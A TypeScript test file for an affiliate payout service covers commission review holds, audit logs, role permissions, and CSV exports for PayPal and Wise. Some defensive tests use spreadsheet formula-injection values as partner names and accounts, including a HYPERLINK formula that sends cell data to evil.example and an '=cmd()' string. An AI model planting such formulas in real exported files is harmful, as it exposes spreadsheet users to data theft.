import { describe, expect, test } from 'bun:test'
import { auditEntry, commissionTotal, payout } from '@tributary/contract'
import { expectRefusal, givenClick, givenLink, givenUser, unique } from '../support/given.ts'
import { givenPayingProgram, givenRole, givenSale, type PayingProgram } from '../support/money.ts'
import { startTestService } from '../support/service.ts'

const service = await startTestService()
const REWARD = { lead: { amountCents: 100 }, sale: { percentBps: 1_000, duration: 'lifetime' }, holdDays: 0 }

const review = (program: PayingProgram, id: number, body: object) =>
  program.owner.call('POST', `${program.api}/commissions/${id}/review`, body)

describe('a commission is held for review', () => {
  test('where the customer’s e-mail is the partner’s own, for the lead and for every sale', async () => {
    const program = await givenPayingProgram(service, REWARD)
    const partner = `${program.api}/partners/${program.link.partnerId}`
    await program.owner.call('PATCH', partner, { email: 'me@example.com' })
    const click_id = await givenClick(service, program.link)
    await program.lead({ click_id, customer_key: 'self', email: ' Me@Example.com' })
    await program.sale({ customer_key: 'self', amount: 1_000, invoice_id: 'in-1' })
    expect(await program.commissions()).toMatchObject([
      { kind: 'sale', state: 'review', reviewReason: 'customer_is_partner' },
      { kind: 'lead', state: 'review', reviewReason: 'customer_is_partner' },
    ])
    expect(await program.balance()).toMatchObject({ payableCents: 0, heldCents: 0, reviewCents: 200 })
    expectRefusal(await program.owner.call('POST', `${program.api}/payouts`), 409, 'conflict')
  })

  test('where one visitor makes more than five leads in a day', async () => {
    const program = await givenPayingProgram(service, REWARD)
    for (let leads = 0; leads < 7; leads++) await program.customer()
    const states = (await program.commissions()).map(({ state }: { state: string }) => state)
    expect(states).toEqual(['review', 'review', 'payable', 'payable', 'payable', 'payable', 'payable'])
  })

  test('and then released or rejected once, with a reason that is kept', async () => {
    const program = await givenPayingProgram(service, REWARD)
    for (let leads = 0; leads < 7; leads++) await program.customer()
    const [second, first] = await program.commissions()
    expectRefusal(await review(program, first.id, { decision: 'released' }), 400, 'invalid_request')
    expect((await review(program, first.id, { decision: 'released', reason: 'an office' })).body.data).toMatchObject({
      state: 'payable',
    })
    expect((await review(program, second.id, { decision: 'rejected', reason: 'made up' })).body.data).toMatchObject({
      state: 'reversed',
      reversedCents: 100,
    })
    for (const { id } of [first, second])
      expectRefusal(await review(program, id, { decision: 'released', reason: 'again' }), 409, 'conflict')
    expectRefusal(await review(program, 999_999, { decision: 'released', reason: 'x' }), 404, 'not_found')
    expect(await program.balance()).toMatchObject({ payableCents: 600, reviewCents: 0 })
    const { data } = (await program.owner.call('GET', `${program.api}/audit`)).body
    expect(data.map((entry: unknown) => auditEntry.parse(entry).action)).toEqual([
      'review rejected',
      'review released',
      'reward changed',
    ])
  })

  test('and a refund meanwhile takes from it', async () => {
    const program = await givenPayingProgram(service, { ...REWARD, lead: null })
    await program.owner.call('PATCH', `${program.api}/partners/${program.link.partnerId}`, { email: 'me@example.com' })
    await program.lead({
      click_id: await givenClick(service, program.link),
      customer_key: 'self',
      email: 'me@example.com',
    })
    const { body } = await program.sale({ customer_key: 'self', amount: 1_000, invoice_id: 'in-1' })
    await program.refund({ invoice_id: 'in-1', amount: 400 })
    expect(await program.balance()).toMatchObject({ reviewCents: 60 })
    await review(program, body.commission_id, { decision: 'released', reason: 'fine' })
    expect(await program.balance()).toMatchObject({ reviewCents: 0, payableCents: 60 })
  })
})

describe('lists and files', () => {
  test('totals by state and currency, filters, and every list as CSV', async () => {
    const program = await givenPayingProgram(service, { ...REWARD, holdDays: 10 })
    const customer_key = await program.customer()
    await program.sale({ customer_key, amount: 5_000, invoice_id: 'in-1', currency: 'EUR' })
    const totals = (await program.owner.call('GET', `${program.api}/commissions/totals`)).body.data
    expect(totals.map((row: unknown) => commissionTotal.parse(row))).toEqual([
      { state: 'held', currency: 'EUR', count: 1, amountCents: 500, inPayoutCents: 0, disputedCents: 0 },
      { state: 'held', currency: 'USD', count: 1, amountCents: 100, inPayoutCents: 0, disputedCents: 0 },
    ])
    expect((await program.owner.call('GET', `${program.api}/commissions?state=payable`)).body.data).toEqual([])
    expect(
      (await program.owner.call('GET', `${program.api}/commissions?partnerId=${program.link.partnerId}`)).body.data,
    ).toHaveLength(2)
    expectRefusal(await program.owner.call('GET', `${program.api}/commissions?state=lost`), 400, 'invalid_request')
    for (const [list, lines] of [
      ['commissions', 4],
      ['balances', 4],
      [`partners/${program.link.partnerId}/ledger`, 4],
      ['audit', 3],
      ['payouts', 2],
    ]) {
      const response = await fetch(`${service.url}${program.api}/${list}?format=csv`, {
        headers: { cookie: program.owner.cookie },
      })
      expect(response.headers.get('content-type')).toContain('text/csv')
      expect((await response.text()).split('\r\n')).toHaveLength(Number(lines))
    }
  })

  test('a payout exports for us, PayPal and Wise, without formulas, only what is open', async () => {
    const program = await givenPayingProgram(service, REWARD)
    await program.owner.call('PATCH', `${program.api}/partners/${program.link.partnerId}`, {
      name: '=cmd(), "Ltd"',
      email: 'pay@example.com',
    })
    await program.sale({ customer_key: await program.customer(), amount: 123_456, invoice_id: 'in-1' })
    const batch = payout.parse(await program.pay())
    const file = async (name: string) =>
      (
        await fetch(`${service.url}${program.api}/payouts/${batch.id}/export?file=${name}`, {
          headers: { cookie: program.owner.cookie },
        })
      ).text()
    const [line] = batch.lines
    expect(await file('tributary')).toBe(
      `payout_line_id,partner_id,partner_code,name,email,amount,currency,method,account,holder\r\n${line?.id},${program.link.partnerId},${program.link.partnerCode},"'=cmd(), ""Ltd""",pay@example.com,124.46,USD,,,\r\n`,
    )
    expect(await file('paypal')).toBe(
      `pay@example.com,124.46,USD,payout-${batch.id}-${line?.id},Partner commission,PayPal\r\n`,
    )
    expect(await file('wise')).toBe(
      `name,recipientEmail,paymentReference,amountCurrency,amount,sourceCurrency,targetCurrency,type\r\n"'=cmd(), ""Ltd""",pay@example.com,payout-${batch.id}-${line?.id},target,124.46,USD,USD,EMAIL\r\n`,
    )
    for (const name of ['bank', '__proto__', 'toString'])
      expectRefusal(
        await program.owner.call('GET', `${program.api}/payouts/${batch.id}/export?file=${name}`),
        400,
        'invalid_request',
      )
    await program.decide(batch.id, line?.id ?? 0, { status: 'paid' })
    expect((await file('tributary')).trim().split('\r\n')).toHaveLength(1)
  })

  test('no cell of any file of a payout is a formula, whatever a partner is called', async () => {
    const program = await givenPayingProgram(service, REWARD)
    await program.sale({ customer_key: await program.customer(), amount: 1_000, invoice_id: 'in-1' })
    const { id } = await program.pay()
    for (const name of ['=1+1', '+1+1', '-1+1', '@SUM(1)', '=HYPERLINK("https://evil.example/?"&B2,"Ltd")'])
      for (const file of ['tributary', 'paypal', 'wise']) {
        const partner = { name, email: 'pay@example.com' }
        await program.owner.call('PATCH', `${program.api}/partners/${program.link.partnerId}`, partner)
        const answer = await fetch(`${service.url}${program.api}/payouts/${id}/export?file=${file}`, {
          headers: { cookie: program.owner.cookie },
        })
        expect(answer.status).toBe(200)
        const cells = (await answer.text()).split(/\r\n|,(?=(?:[^"]*"[^"]*")*[^"]*$)/)
        expect(cells.length).toBeGreaterThan(5)
        expect(cells.filter((cell) => /^"?[=+\-@\t\r]/.test(cell))).toEqual([])
      }
  })

  test('a file pays to the account that a partner has named, and nobody who wants to be paid another way', async () => {
    const program = await givenPayingProgram(service, REWARD)
    const partner = `${program.api}/partners/${program.link.partnerId}`
    await program.owner.call('PATCH', partner, { email: 'contact@example.com' })
    await program.sale({ customer_key: await program.customer(), amount: 1_000, invoice_id: 'in-1' })
    const { id } = await program.pay()
    const wants = (method: string, account: string) =>
      service.db
        .insertInto('partnerPayoutDetails')
        .values({
          ...{ programId: program.id, partnerId: program.link.partnerId, method, account, holder: 'Maya', note: null },
          updatedAt: new Date(),
        })
        .onConflict((conflict) => conflict.columns(['programId', 'partnerId']).doUpdateSet({ method, account }))
        .execute()
    const exported = (file: string) =>
      fetch(`${service.url}${program.api}/payouts/${id}/export?file=${file}`, {
        headers: { cookie: program.owner.cookie },
      })
    await wants('paypal', 'wallet@example.com')
    expect(await (await exported('paypal')).text()).toStartWith('wallet@example.com,')
    const answer = await exported('wise')
    expect(answer.status).toBe(409)
    expect(await answer.text()).toContain('Partner (paypal)')
    // One character more would be somebody else's address, so it stays as it is.
    await wants('paypal', '+wallet@example.com')
    expect(await (await exported('paypal')).text()).toStartWith('+wallet@example.com,')
    for (const method of ['paypal', 'wise'])
      for (const account of ['not an address', '=HYPERLINK("https://evil.example/","me@example.com")', '@SUM(1)']) {
        await wants(method, account)
        expect((await exported(method)).status).toBe(409)
      }
    expect((await exported('tributary')).status).toBe(200)
    await wants('bank', 'DE89370400440532013000')
    expect(await (await exported('tributary')).text()).toEndWith('USD,bank,DE89370400440532013000,Maya\r\n')
  })

  test('where one partner wants PayPal and another Wise, each is in the file of theirs, and noted as handed out there alone', async () => {
    const program = await givenPayingProgram(service, REWARD)
    const others = [await givenLink(service, program.id), await givenLink(service, program.id)]
    const wishes = { paypal: program.link, wise: others[0], none: others[1] }
    for (const [method, link] of Object.entries(wishes)) {
      const partnerId = link?.partnerId ?? 0
      await program.owner.call('PATCH', `${program.api}/partners/${partnerId}`, { email: `${method}@example.com` })
      const details = { account: `${method}-wallet@example.com`, holder: 'H', note: null, updatedAt: new Date() }
      if (method !== 'none')
        await service.db
          .insertInto('partnerPayoutDetails')
          .values({ programId: program.id, partnerId, method, ...details })
          .execute()
      const customer_key = unique('customer')
      if (link) await program.lead({ customer_key, click_id: await givenClick(service, link) })
      await program.sale({ customer_key, amount: 1_000, invoice_id: `in-${method}` })
    }
    const { id } = await program.pay()
    const paidBy = async (file: string) => {
      const url = `${service.url}${program.api}/payouts/${id}/export?file=${file}`
      const text = await (await fetch(url, { headers: { cookie: program.owner.cookie } })).text()
      return text.match(/[\w-]+@example.com/g)?.toSorted()
    }
    const handedOut = async () => {
      const lines = await service.db.selectFrom('payoutLines').selectAll().where('payoutId', '=', id).execute()
      return lines.filter(({ exportedCents }) => exportedCents !== null).length
    }
    expect(await paidBy('paypal')).toEqual(['none@example.com', 'paypal-wallet@example.com'])
    expect(await handedOut()).toBe(2)
    expect(await paidBy('wise')).toEqual(['none@example.com', 'wise-wallet@example.com'])
    expect(await handedOut()).toBe(3)
  })

  test('a file that its receiver would refuse is not made', async () => {
    const program = await givenPayingProgram(service, REWARD)
    await program.sale({ customer_key: await program.customer(), amount: 1_000, invoice_id: 'in-1', currency: 'EUR' })
    const { id } = await program.pay()
    const exported = (query: string) => program.owner.call('GET', `${program.api}/payouts/${id}/export?${query}`)
    expectRefusal(await exported('file=paypal'), 400, 'invalid_request')
    expectRefusal(await exported('file=paypal&currency=EUR'), 409, 'conflict')
  })

  test('who changed a partner or the program is kept', async () => {
    const program = await givenPayingProgram(service, REWARD)
    await program.owner.call('PATCH', `${program.api}/partners/${program.link.partnerId}`, { email: 'new@example.com' })
    await program.owner.call('PATCH', program.api, { timezone: 'Asia/Tokyo' })
    const { data } = (await program.owner.call('GET', `${program.api}/audit`)).body
    expect(data).toMatchObject([
      { action: 'program changed', before: { timezone: 'UTC' }, after: { timezone: 'Asia/Tokyo' } },
      { action: 'partner changed', before: { email: null }, after: { email: 'new@example.com' } },
      { action: 'reward changed', before: { version: null }, after: { version: 1, lead: { amountCents: 100 } } },
    ])
  })

  test('of somebody else’s program are out of reach', async () => {
    const [mine, theirs] = [await givenPayingProgram(service, REWARD), await givenPayingProgram(service, REWARD)]
    await theirs.customer()
    const batch = await theirs.pay()
    const line = `${mine.api}/payouts/${batch.id}/lines/${batch.lines[0].id}`
    expectRefusal(await mine.owner.call('POST', line, { status: 'paid' }), 404, 'not_found')
    expectRefusal(await mine.owner.call('GET', `${mine.api}/payouts/${batch.id}`), 404, 'not_found')
    expectRefusal(
      await mine.owner.call('POST', `${theirs.api}/payouts/${batch.id}/lines/${batch.lines[0].id}`, { status: 'paid' }),
      403,
      'forbidden',
    )
    const [commission] = await theirs.commissions()
    expectRefusal(await review(mine, commission.id, { decision: 'rejected', reason: 'x' }), 404, 'not_found')
    expect(await theirs.balance()).toMatchObject({ batchedCents: 100, paidCents: 0 })
  })
})

describe('who may', () => {
  test('see money: every role; change it: owner, admin and billing', async () => {
    const program = await givenPayingProgram(service, REWARD)
    for (const [role, mayManage] of [
      ['admin', true],
      ['billing', true],
      ['member', false],
      ['viewer', false],
    ] as const) {
      const user = await givenUser(service)
      await givenRole(service, program.workspaceId, user, role)
      expect((await user.call('GET', `${program.api}/balances`)).status).toBe(200)
      expect((await user.call('GET', `${program.api}/commissions`)).status).toBe(200)
      const change = await user.call('PUT', `${program.api}/reward`, { ...REWARD, holdDays: unique('x').length % 30 })
      if (mayManage) expect(change.status).toBe(200)
      else expectRefusal(change, 403, 'forbidden')
    }
  })

  test('see money without tracking still sees whose it is: every row of it has the name of its partner', async () => {
    const program = await givenPayingProgram(service, REWARD)
    await givenSale(program, 1_000)
    const user = await givenUser(service)
    await givenRole(service, program.workspaceId, user, 'billing')
    const data = async (method: string, path: string, body?: object) =>
      (await user.call(method, `${program.api}${path}`, body)).body.data
    const named = { partnerId: program.link.partnerId, partnerName: 'Partner' }
    expect(await data('GET', '/commissions')).toMatchObject([named, named])
    expect(await data('GET', '/balances')).toMatchObject([named])
    expect(await data('GET', '/payouts/preview')).toMatchObject([named])
    const { id, lines } = await data('POST', '/payouts')
    expect(lines).toMatchObject([named])
    expect((await data('GET', `/payouts/${id}`)).lines).toMatchObject([named])
    expect(await data('POST', `/payouts/${id}/lines/${lines[0].id}`, { status: 'paid' })).toMatchObject(named)
  })
})
